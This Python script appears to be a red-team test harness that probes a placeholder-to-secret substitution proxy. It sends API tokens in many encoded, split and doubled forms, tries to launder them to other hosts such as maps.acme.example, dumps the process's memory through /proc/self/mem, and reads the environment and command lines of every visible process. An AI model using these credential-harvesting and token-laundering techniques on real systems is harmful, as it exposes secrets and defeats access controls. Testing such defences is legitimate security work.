"""Plays with placeholders: which of their shapes and places would be exchanged for a value?"""
import urllib.parse
import tricks
from tricks import *

OTHER_TOKEN = os.environ.get("OTHER_TOKEN", "")
MAP_TOKEN = os.environ.get("MAP_TOKEN", "")
LEAKED = os.environ.get("LEAKED", "")
STOLEN = os.environ.get("STOLEN", TOKEN)


def send(name, headers=(), query="", host=API):
    def attempt():
        with api(host) as sock:
            return talk(sock, request(f"/p/{name}{query}", auth=False, headers=headers, host=host))

    TRICKS[name] = attempt


def bearer(name, credential):
    send(name, [f"Authorization: {credential}"])


half = len(TOKEN) // 2
b64 = base64.b64encode(TOKEN.encode()).decode()
bearer("exact", f"Bearer {TOKEN}")
bearer("scheme_upper", f"BEARER {TOKEN}")
bearer("upper", f"Bearer {TOKEN.upper()}")
bearer("lower", f"Bearer {TOKEN.lower()}")
bearer("percent", "Bearer " + "".join(f"%{ord(c):02x}" for c in TOKEN))
bearer("base64", f"Bearer {b64}")
bearer("hex", f"Bearer {TOKEN.encode().hex()}")
bearer("doubled", f"Bearer {TOKEN}{TOKEN}")
bearer("adjacent", f"Bearer {TOKEN},{TOKEN}")
bearer("before", f"Bearer x{TOKEN}")
bearer("after", f"Bearer {TOKEN}x")
bearer("quoted", f'Bearer "{TOKEN}"')
bearer("two_spaces", f"Bearer  {TOKEN}")
bearer("tab", f"Bearer\t{TOKEN}")
bearer("no_scheme", TOKEN)
bearer("token_scheme", f"token {TOKEN}")
bearer("basic", "Basic " + base64.b64encode(f"u:{TOKEN}".encode()).decode())
bearer("basic_user", "Basic " + base64.b64encode(f"{TOKEN}:".encode()).decode())
bearer("parameters", f'Digest username="a", response="{TOKEN}"')
bearer("of_another_secret", f"Bearer {OTHER_TOKEN}")
bearer("of_another_box", f"Bearer {STOLEN}")
send("split_headers", [f"Authorization: Bearer {TOKEN[:half]}", f"Authorization: {TOKEN[half:]}"])
send("twice", [f"Authorization: Bearer {TOKEN}", f"authorization: Bearer {TOKEN}"])
send("other_header", [f"X-Api-Key: {TOKEN}"])
send("laundered", [f"X-Api-Key: {TOKEN}"], host=OTHER)
send("laundered_query", query=f"?key={TOKEN}", host="maps.acme.example")
send("laundered_nowhere", [f"Authorization: Bearer {TOKEN}", f"X-Api-Key: {OTHER_TOKEN}"], host="open.acme.example")
send("other_exact", [f"X-API-KEY: {OTHER_TOKEN}"], host=OTHER)
send("other_doubled", [f"X-Api-Key: {OTHER_TOKEN} {OTHER_TOKEN}"], host=OTHER)
send("map_exact", query=f"?a=1&key={urllib.parse.quote(MAP_TOKEN)}", host="maps.acme.example")
send("map_twice", query=f"?key={MAP_TOKEN}&key={MAP_TOKEN}", host="maps.acme.example")
send("map_upper", query=f"?KEY={MAP_TOKEN}", host="maps.acme.example")
send("map_in_value", query=f"?key=x{MAP_TOKEN}", host="maps.acme.example")
send("map_in_header", [f"X-Key: {MAP_TOKEN}"], host="maps.acme.example")
send("leaked", [f"Authorization: Bearer {LEAKED or TOKEN}"])


@trick
def environment():
    return json.dumps([TOKEN, OTHER_TOKEN, MAP_TOKEN]).encode()


@trick
def memory():
    """Everything in this process, after all of the above, into a file of the workspace."""
    ask("/echo")
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem, open("memory.dump", "wb") as out:
        for line in maps:
            span, mode = line.split()[:2]
            if "r" not in mode or line.rstrip().endswith(("[vvar]", "[vsyscall]")):
                continue
            first, last = (int(end, 16) for end in span.split("-"))
            try:
                mem.seek(first)
                out.write(mem.read(last - first))
            except (OSError, ValueError, OverflowError):
                pass
    return str(os.path.getsize("memory.dump")).encode()


@trick
def neighbours():
    """Environment, arguments and memory of every process that can be seen from here."""
    seen = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for what in ("environ", "cmdline", "maps"):
            try:
                seen.append(open(f"/proc/{pid}/{what}", "rb").read())
            except OSError:
                pass
    return b"\n".join(seen)


main()
